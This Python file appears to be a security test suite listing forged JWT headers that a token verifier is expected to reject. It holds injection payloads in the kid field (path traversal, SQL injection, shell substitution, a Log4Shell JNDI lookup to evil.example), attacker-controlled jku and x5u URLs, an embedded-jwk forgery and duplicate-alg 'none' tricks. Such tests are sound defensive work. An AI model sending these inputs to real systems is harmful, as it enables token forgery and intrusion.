"""Forged headers."""

from __future__ import annotations

import json
import zlib

from tests.security.forge import Forge, text_of
from tests.security.forgeries.forgery import Forgery, header_with

HEADERS: dict[str, Forgery] = {
    **{
        f"kid {kid[:40]!r}": header_with(kid=kid)
        for kid in (
            "../../dev/null",
            "/dev/null",
            "..\\..\\win.ini",
            "file:///etc/passwd",
            "' OR 1=1 --",
            "x' UNION SELECT 'AA' --",
            "| cat /etc/passwd",
            "$(id)",
            "${jndi:ldap://evil.example/a}",
            "unknown",
            "https://evil.example/jwks.json",
            "",
            " ",
            "*",
            "k" * 10_000,
            "\x00",
            "ключ",
        )
    },
    "kid with a null byte behind": lambda forge: forge.signed(kid=forge.kid + "\x00"),
    "kid with a space before": lambda forge: forge.signed(kid=" " + forge.kid),
    "kid in other case": lambda forge: forge.signed(kid=forge.kid.swapcase() + "x"),
    "no kid": lambda forge: forge.signed(header={"alg": "RS256", "typ": "JWT"}),
    "kid a list": lambda forge: forge.signed(kid=[forge.kid]),
    "kid an object": lambda forge: forge.signed(kid={"eq": forge.kid}),
    "kid a number": header_with(kid=0),
    "kid a truth value": header_with(kid=True),
    "jku of the forger, signed by the forger": lambda forge: forge.signed(
        jku="https://evil.example/jwks", key=forge.stranger
    ),
    "jku beside an honest signature": header_with(jku="https://auth.castor/v1/auth/jwks"),
    "x5u of the forger": lambda forge: forge.signed(x5u="https://evil.example/cert.pem", key=forge.stranger),
    "x5c of the forger": lambda forge: forge.signed(x5c=["MIIB"], key=forge.stranger),
    "x5t beside an honest signature": header_with(x5t="AAAA"),
    "jwk of the forger embedded (CVE-2018-0114)": lambda forge: forge.signed(
        jwk=forge.jwk(forge.stranger), key=forge.stranger
    ),
    "our own jwk embedded": lambda forge: forge.signed(jwk=forge.jwk()),
    "crit of an extension that nobody knows": header_with(crit=["http://example.com/unknown"], unknown=True),
    "crit of exp": header_with(crit=["exp"], exp=9_999_999_999),
    "crit empty": header_with(crit=[]),
    "b64 false with crit (RFC 7797)": header_with(b64=False, crit=["b64"]),
    "b64 false without crit": header_with(b64=False),
    "b64 false over a bare payload": lambda forge: _unencoded(forge),
    "zip": lambda forge: forge.signed(zlib.compress(text_of(forge.fresh())), zip="DEF"),
    "cty JWT, a token in a token": lambda forge: forge.signed(text_of(forge.signed()), cty="JWT"),
    "a token in a token without cty": lambda forge: forge.signed(json.dumps(forge.signed()).encode()),
    "enc in a signed token": header_with(enc="A128GCM"),
    "typ of a refresh token": header_with(typ="refresh+jwt"),
    "typ of a logout token": header_with(typ="logout+jwt"),
    "typ of an identity token": header_with(typ="id_token"),
    "typ of a proof (dpop+jwt)": header_with(typ="dpop+jwt"),
    "typ a list": header_with(typ=["JWT"]),
    "alg twice in the header": lambda forge: forge.signed(
        header=f'{{"alg":"none","alg":"RS256","kid":"{forge.kid}","typ":"JWT"}}'.encode()
    ),
    "kid twice in the header": lambda forge: forge.signed(
        header=f'{{"alg":"RS256","kid":"x","kid":"{forge.kid}","typ":"JWT"}}'.encode()
    ),
    "alg twice, once escaped": lambda forge: forge.signed(
        header=f'{{"\\u0061lg":"none","alg":"RS256","kid":"{forge.kid}","typ":"JWT"}}'.encode()
    ),
    "header a list": lambda forge: forge.signed(header=b'["RS256"]'),
    "header null": lambda forge: forge.signed(header=b"null"),
    "header with a byte order mark": lambda forge: forge.signed(header=b"\xef\xbb\xbf" + text_of(forge.header)),
    "header in UTF-16": lambda forge: forge.signed(header=json.dumps(forge.header).encode("utf-16")),
    "header with something behind": lambda forge: forge.signed(header=text_of(forge.header) + b"{}"),
}


def _unencoded(forge: Forge) -> str:
    head, _, signature = forge.signed(b64=False, crit=["b64"]).split(".")
    return f"{head}.{text_of(forge.fresh()).decode()}.{signature}"
